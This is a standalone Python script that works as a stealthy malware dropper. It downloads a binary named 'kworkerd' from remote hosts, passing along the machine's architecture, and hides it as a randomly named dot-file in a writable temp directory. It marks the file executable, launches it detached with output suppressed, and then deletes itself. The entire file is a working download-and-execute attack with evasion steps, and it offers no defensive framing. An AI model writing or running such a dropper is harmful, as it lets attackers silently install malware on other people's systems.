import os, stat, subprocess, urllib.request, platform, random, string

URLS = [
    "http://198.51.100.14/bin/kworkerd",
    "http://cdn-static.update-check.invalid/bin/kworkerd",
]
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"


def rnd(n=8):
    return "".join(random.choice(string.ascii_lowercase) for _ in range(n))


def writable_dir():
    for d in ("/dev/shm", "/var/tmp", "/tmp", os.path.expanduser("~")):
        if os.access(d, os.W_OK):
            return d
    return "."


def fetch(url):
    req = urllib.request.Request(url, headers={"User-Agent": UA})
    with urllib.request.urlopen(req, timeout=15) as r:
        return r.read()


def main():
    arch = platform.machine()
    dest = os.path.join(writable_dir(), "." + rnd())
    for u in URLS:
        try:
            blob = fetch(u + "?a=" + arch)
        except Exception:
            continue
        with open(dest, "wb") as f:
            f.write(blob)
        os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        subprocess.Popen([dest, "--quiet"], stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)
        break
    try:
        os.remove(__file__)
    except OSError:
        pass


main()
